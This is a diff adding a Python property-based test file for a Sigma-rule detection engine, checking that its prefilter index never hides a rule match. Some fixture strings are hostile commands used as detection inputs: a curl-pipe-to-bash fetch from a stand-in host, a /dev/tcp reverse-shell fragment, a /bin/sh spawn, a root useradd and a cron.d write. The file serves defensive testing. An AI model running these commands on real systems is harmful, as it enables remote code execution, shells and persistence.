@@ -1,0 +1,131 @@
+"""The engine's index only skips rules that cannot match: on events built from the rules'
+own literals (the hard cases for a prefilter), `SigmaEngine` returns exactly the rules
+whose compiled predicate holds when every rule of the logsource is tried."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from sigma_event_spec import build_event
+from vigil.events.model import Event, FdInfo, Process
+from vigil.rules.ast import Compare, ListValue, Value, walk
+from vigil.rules.sigma import SigmaEngine, load_sigma_paths
+from vigil.rules.sigma.logsource import SYSCALL
+from vigil.rules.sigma.prefilter import whole_word
+
+SIGMA_LINUX = Path(__file__).resolve().parents[3] / "shared" / "rules" / "sigma" / "linux"
+
+if not SIGMA_LINUX.is_dir():
+    pytest.skip(f"SigmaHQ rules not found at {SIGMA_LINUX}", allow_module_level=True)
+
+RESULT = load_sigma_paths([SIGMA_LINUX])
+ENGINE = SigmaEngine(RESULT.rules)
+
+
+def _literals() -> list[str]:
+    out: set[str] = set()
+    for r in RESULT.rules:
+        for n in walk(r.condition):
+            if isinstance(n, Compare) and isinstance(n.value, Value):
+                out.add(n.value.text)
+            elif isinstance(n, Compare) and isinstance(n.value, ListValue):
+                out.update(i.text for i in n.value.items)
+    return sorted(t for t in out if t and "\x00" not in t and not t.startswith("(?s)"))
+
+
+LITERALS = _literals()
+lit = st.sampled_from(LITERALS)
+noise = st.sampled_from(["-x", "/tmp/a", "foo", "--bar=1", "|", ";", "'", "AA", "/usr/bin/"])
+piece = st.one_of(lit, lit.map(str.upper), noise)
+
+
+def brute_force(event: Event) -> list[str]:
+    """Every rule of the event's logsource, predicate evaluated directly."""
+    out = []
+    for r in RESULT.rules:
+        if not r.route.applies(event.source, event.type):
+            continue
+        if event.source == SYSCALL and r.event_types is not None \
+                and event.type not in r.event_types:
+            continue
+        if r.predicate(event):
+            out.append(r.rule_id)
+    return out
+
+
+def engine_ids(event: Event) -> list[str]:
+    return [d.rule_id for d in ENGINE.on_event(event)]  # type: ignore[misc]
+
+
+def _proc(draw, args: list[str], exe: str) -> Process:
+    exepath = exe if exe.startswith("/") else "/usr/bin/" + exe.strip("/")
+    argv0 = draw(st.one_of(lit, st.just(exepath)))
+    parent = Process(name=draw(piece)[:15], exepath=draw(lit), args=[draw(piece)])
+    return Process(pid=7, name=exepath.rsplit("/", 1)[-1][:15], exe=argv0, exepath=exepath,
+                   args=args, user="root", euid=draw(st.sampled_from([0, 33, 1000])),
+                   cwd="/", parent=parent)
+
+
+@st.composite
+def events(draw) -> Event:
+    args = draw(st.lists(piece, min_size=1, max_size=5))
+    exe = draw(st.one_of(lit, st.sampled_from(["/usr/bin/bash", "/tmp/x", "/bin/dd"])))
+    proc = _proc(draw, args, exe)
+    kind = draw(st.sampled_from(["exec", "write", "read", "connect", "log", "syscall"]))
+    if kind == "exec":
+        return Event(type=draw(st.sampled_from(["execve", "execveat"])), res=0, proc=proc)
+    if kind in ("write", "read"):
+        path = draw(st.one_of(lit, st.sampled_from(["/etc/cron.d/x", "/tmp/.x"])))
+        flags = 0o1101 if kind == "write" else 0
+        return Event(type="openat", res=3, proc=proc, args={"name": path, "flags": flags},
+                     fd=FdInfo(num=3, type="file", name=path))
+    if kind == "connect":
+        ip, port = draw(st.sampled_from([("203.0.113.5", 4444), ("127.0.0.1", 80),
+                                         ("10.1.2.3", 2222)]))
+        return Event(type="connect", res=0, proc=proc, fd=FdInfo(
+            type="ipv4", rip=ip, rport=port, lip="10.0.0.2", lport=5000, role="client"))
+    if kind == "log":
+        return Event(type="auth.log", source="auth", raw=" ".join(args), proc=Process(
+            name=draw(st.sampled_from(["sshd", "cron", "sudo", "kernel"]))))
+    etype = draw(st.sampled_from(["sysinfo", "mknod", "personality", "syslog", "unlinkat",
+                                  "mkdirat", "finit_module"]))
+    return Event(type=etype, res=0, proc=proc, args={"path": draw(lit)})
+
+
+@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(events())
+def test_index_never_hides_a_match(event):
+    assert engine_ids(event) == brute_force(event)
+
+
+def test_fixture_style_events_agree_with_brute_force():
+    specs = [
+        {"exec": "python3 -c \"import os; os.system('/bin/sh')\"", "exepath": "/usr/bin/python3.11"},
+        {"exec": "sh -c 'curl -s http://x/x.sh | bash'", "exepath": "/usr/bin/dash"},
+        {"log": "useradd[9]: new user: name=x, UID=0, GID=0, home=/root", "program": "useradd"},
+        {"write": "/etc/cron.d/evil"}, {"read": "/etc/os-release"},
+        {"syscall": "personality", "args": {"persona": 0x40000}},
+    ]
+    for spec in specs:
+        ev = build_event(spec)
+        assert engine_ids(ev) == brute_force(ev)
+    assert any(engine_ids(build_event(s)) for s in specs)
+
+
+@pytest.mark.parametrize("literal,left,right,word", [
+    ("bash -i >& /dev/tcp/", True, True, "tcp"),  # "bash" touches the open left end
+    ("history -c", True, True, None),              # both words touch an open end
+    ("sh -c ", False, True, None),                 # "sh" is common, "c" is short: weak only
+    ("GID=0,", True, True, "0"),
+    ("wget", False, False, "wget"),                # equality: the whole value is the word
+])
+def test_whole_word_only_takes_words_delimited_inside_the_literal(literal, left, right, word):
+    got = whole_word(literal, left, right)
+    if word is None and literal == "sh -c ":
+        assert got in ("sh", "c")
+    else:
+        assert got == word
